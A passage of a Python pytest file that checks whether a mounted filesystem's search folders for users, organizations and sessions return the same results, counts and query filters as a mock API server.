    "order_by name": lambda c: [("order_by", "name")],
    "order_by -members_count, with counts": lambda c: [
        ("order_by", "-members_count"), ("include_members_count", "true")],
    "include_members_count": lambda c: [("include_members_count", "true")],
}

SESSION_SEARCHES = {
    "client_id": lambda c: [("client_id", c.client_of("revoked"))],
    "client_id and status": lambda c: [
        ("client_id", c.client_of("active")), ("status", "active")],
    "user_id and status": lambda c: [
        ("user_id", c.oldest["id"]), ("status", "ended")],
}

SEARCHES = [("users", "/users", name, build)
            for name, build in USER_SEARCHES.items()] + \
    [("orgs", "/organizations", name, build)
     for name, build in ORG_SEARCHES.items()] + \
    [("sessions", "/sessions", name, build)
     for name, build in SESSION_SEARCHES.items()]


@pytest.fixture(scope="module")
def instance():
    """120 users, 8 organizations, their data, and one mount of them."""
    server = start_server(users=120, orgs=8, seed=5)
    try:
        data = Instance(server)
        with mount_clerkfs(server, page_size=50) as mount:
            yield server, mount, data
    finally:
        server.stop()


@pytest.mark.parametrize("resource,path,name,build", SEARCHES,
                         ids=[f"{r}: {n}" for r, _, n, _ in SEARCHES])
def test_a_search_finds_what_the_api_finds(instance, resource, path, name,
                                           build):
    server, mount, data = instance
    pairs = build(data)
    expected = api_items(server, path, pairs)
    server.reset()
    folder = mount.path / "search" / resource / query_name(pairs)

    found = json.loads((folder / "results.json").read_text())

    assert [item["id"] for item in found] == \
        [item["id"] for item in expected]
    if ("include_members_count", "true") in pairs:
        assert [o["members_count"] for o in found] == \
            [o["members_count"] for o in expected]
    sent = list_requests(server, f"GET /v1{path}")
    assert sent and all(filters_sent(r) == as_query(pairs) for r in sent)
    for counted in list_requests(server, f"GET /v1{path}/count"):
        assert counted["query"] == as_query(pairs, leave_out=("order_by",))
    assert (folder / "count").read_text() == f"{len(expected)}\n"
